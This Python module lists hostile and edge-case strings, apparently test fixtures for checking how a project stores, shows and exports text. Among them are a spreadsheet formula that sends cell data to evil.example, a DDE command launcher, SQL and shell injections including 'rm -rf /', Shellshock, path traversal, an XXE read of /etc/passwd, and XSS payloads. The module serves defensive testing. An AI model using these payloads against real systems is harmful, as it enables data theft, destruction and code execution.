"""Texts that break programs which were not written with care. Whoever stores, shows, sends or exports words tries these.

Written for this project; the kinds are those of the well-known lists, each here once or twice. A few hold what
`app.workflow.collect.clean` takes out before anything is stored (control characters, NUL, marks that turn the direction of
all that follows, lone surrogates): see `KEPT`.
"""

import re

FORMULAS: tuple[str, ...] = (
    "=1+1",
    '=cmd|" /C calc"!A0',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(1,2)",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "'=1+1",
    "''=already guarded twice",
    " =1+1",
    "\u200b=1+1",
)
COMMANDS: tuple[str, ...] = (
    "Robert'); DROP TABLE response;--",
    "1 OR 1=1",
    "' UNION SELECT password_hash FROM teammember --",
    "$(touch /tmp/hurt)",
    "`id`; rm -rf / #",
    "../../../../etc/passwd",
    "C:\\Windows\\System32\\con.txt",
    "%s%n%x %(name)s {0} {name!r} ${HOME}",
    "{{ 7 * 7 }} {% raw %} <%= 7 %> #{7}",
    "() { :; }; echo hurt",
)
MARKUP: tuple[str, ...] = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</textarea></form><h1>out</h1>",
    "<!--[if gte IE 4]><script>alert(1)</script>",
    "<![CDATA[ not data ]]>",
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "&lt;b&gt; &amp;amp; &#0; &nosuch;",
    "javascript:alert(1)//http://a.example",
    "_x0041_ _x000D_ _x005F_ _x",
)
TABLES: tuple[str, ...] = (
    'He said "no", twice',
    "a,b;c\td|e",
    'first line\nsecond "line"\n\nlast, line',
    "'",
    '"',
    "\\",
    "a;b",
    "NULL",
    "#N/A",
    "#REF!",
    "TRUE",
    "nan",
    "None",
    "undefined",
    "-",
    "0",
    "00123",
    "1e309",
    "1/2",
    "2026-05-12",
    "١٢٣",
    "1,234.50",
    "\ufeffafter a byte order mark",
    "a byte\ufefforder mark inside",
)
SCRIPTS: tuple[str, ...] = (
    "اللغة العربية: كيف حالك؟ (١٢٣) abc",
    "میرا بچہ اسکول جانا پسند کرتا ہے۔",
    "Kuv nyiam tsev kawm ntawv, tab sis lub npav tuaj lig.",
    "በትምህርት ቤት ውስጥ ልጄ ደስተኛ ነው።",
    "मेरो छोरीलाई विद्यालय मन पर्छ। क्ष्म्य र्‍य",
    "我的孩子喜欢学校。𠮷野家で𩸽",
    "學校的公車常常遲到，「請」改善。",
    "Моя дитина любить школу — ґанок, їжак",
    "Nghiêng ngả: Tiếng Việt có dấu ằẵẳặ",
    "한국어 조합 한글",
    "Lekòl la bon, men bis la an reta chak maten.",
    "ภาษาไทย ไม่มีช่องว่าง",
    "İıŞş ẞß ﬁ ǆ K Å",
    "e\u0301 and \u00e9, n\u0303 and \u00f1",
    "Z̡͖̜͎̞a̸̰͉͓l̷̨̛͔g̴̱̏o͙̞̯",
    "👍🏽 👨‍👩‍👧‍👦 🏳️‍🌈 🇺🇦 1️⃣ ❤️‍🔥",
    "𝕿𝖍𝖊 𝔮𝔲𝔦𝔠𝔨 🄱🅁🄾🅆🄽",
    "≤ ≠ ½ ‰ № § … “quoted” ‘single’ «angled»",
)
UNSEEN: tuple[str, ...] = (
    "zero\u200bwidth\u200cnon\u200djoiner\u2060here",
    "soft\u00adhyphen and\u00a0no-break\u202fspaces\u3000wide",
    "line\u2028separator\u2029paragraph\u0085next",
    "\u2067isolated\u2069 \u2066left\u2069 \u2068first\u2069",
    "marks \u200e\u200f of direction \u061c",
    "\u202eturned around\u202c and \u202dback\u202c",
    "private \ue000 and \U000f0000, not a character \ufffe \uffff \U0001ffff",
    "tags \U000e0041\U000e0042\U000e007f, variation \ufe0e\ufe0f\U000e0100",
)
CONTROL: tuple[str, ...] = (
    "nul\x00in the middle",
    "".join(map(chr, range(1, 32))) + "all controls\x7f",
    "bell\x07 escape\x1b[31mred\x1b[0m backspace\x08\x08",
    "carriage\rreturn and\r\nboth",
    "lone \ud800 high and \udfff low",
    "\x80\x9b C1 controls",
)
LONG: tuple[str, ...] = (
    "long " * 900 + "end",
    "x" * 4000,
    "ምርጥ" * 1200,
    "👩‍👩‍👧" * 500,
    "\n".join("line" for _ in range(500)),
)

HOSTILE: tuple[str, ...] = (*FORMULAS, *COMMANDS, *MARKUP, *TABLES, *SCRIPTS, *UNSEEN, *CONTROL, *LONG)

CLEANED = re.compile("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\ud800-\udfff]")
# Those that a form keeps letter by letter, so that what was typed can be compared with what is stored.
KEPT: tuple[str, ...] = tuple(text for text in HOSTILE if not CLEANED.search(text) and text == text.strip())
